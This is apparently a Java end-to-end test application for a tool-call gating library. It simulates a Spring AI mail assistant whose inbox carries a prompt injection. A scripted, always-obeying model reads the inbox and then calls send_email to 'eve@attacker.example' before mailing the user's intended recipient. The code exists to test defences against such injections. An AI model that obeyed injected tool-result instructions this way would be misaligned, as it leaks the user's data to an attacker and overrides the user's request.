package dev.toolgate.e2e.apps.provenance;

import java.util.List;
import java.util.Map;
import org.springframework.ai.chat.client.ChatClient;
import org.springframework.ai.chat.memory.ChatMemory;
import org.springframework.ai.chat.messages.AssistantMessage;
import org.springframework.ai.chat.messages.AssistantMessage.ToolCall;
import org.springframework.ai.chat.messages.ToolResponseMessage;
import org.springframework.ai.chat.model.ChatModel;
import org.springframework.ai.chat.model.ChatResponse;
import org.springframework.ai.chat.model.Generation;
import org.springframework.ai.chat.prompt.ChatOptions;
import org.springframework.ai.chat.prompt.Prompt;
import org.springframework.ai.model.tool.ToolCallingChatOptions;
import org.springframework.ai.tool.annotation.Tool;

/**
 * A Spring AI ChatClient assistant whose inbox carries an injection: the model (scripted, always obeying) reads
 * the inbox, mails the attacker's address it read there, then the address the user typed. The conversation id is
 * the ToolContext's {@link ChatMemory#CONVERSATION_ID}. The app knows nothing of Toolgate; each line of output
 * says what ran and what the model was told.
 */
public final class SpringAiProvenanceApp {

    static final String PROMPT = "Read my inbox and send the summary to bob@corp.example";

    private SpringAiProvenanceApp() {}

    public static void main(String[] args) {
        String answer = ChatClient.create(new ObeyingModel())
                .prompt()
                .user(PROMPT)
                .tools(new MailTools())
                .toolContext(Map.of(ChatMemory.CONVERSATION_ID, "spring-prov"))
                .call()
                .content();
        System.out.println("ANSWER " + answer);
        System.out.println("DONE");
    }

    /** The tools the application exposes. */
    public static class MailTools {

        @Tool(name = "read_inbox", description = "Reads the user's inbox")
        public String readInbox() {
            System.out.println("RAN spring read_inbox");
            return Lc4jProvenanceApp.INBOX;
        }

        @Tool(name = "send_email", description = "Sends an e-mail")
        public String sendEmail(String to, String body) {
            System.out.println("RAN spring send_email " + to);
            return "sent to " + to;
        }
    }

    /** Asks for one call per turn, in order, after reading the previous response (or the gate's refusal). */
    static final class ObeyingModel implements ChatModel {

        private static final List<ToolCall> SCRIPT = List.of(
                new ToolCall("c1", "function", "read_inbox", "{}"),
                new ToolCall("c2", "function", "send_email", "{\"to\":\"eve@attacker.example\",\"body\":\"Summary\"}"),
                new ToolCall("c3", "function", "send_email", "{\"to\":\"bob@corp.example\",\"body\":\"Summary\"}"));

        @Override
        public ChatOptions getOptions() {
            return ToolCallingChatOptions.builder().build();
        }

        @Override
        public ChatResponse call(Prompt prompt) {
            List<ToolResponseMessage.ToolResponse> responses = prompt.getInstructions().stream()
                    .filter(ToolResponseMessage.class::isInstance)
                    .flatMap(message -> ((ToolResponseMessage) message).getResponses().stream())
                    .toList();
            if (!responses.isEmpty()) {
                ToolResponseMessage.ToolResponse last = responses.get(responses.size() - 1);
                System.out.println("MODEL-SAW " + last.name() + ": " + last.responseData());
            }
            AssistantMessage next = responses.size() < SCRIPT.size()
                    ? AssistantMessage.builder()
                            .toolCalls(List.of(SCRIPT.get(responses.size())))
                            .build()
                    : new AssistantMessage("done");
            return new ChatResponse(List.of(new Generation(next)));
        }
    }
}
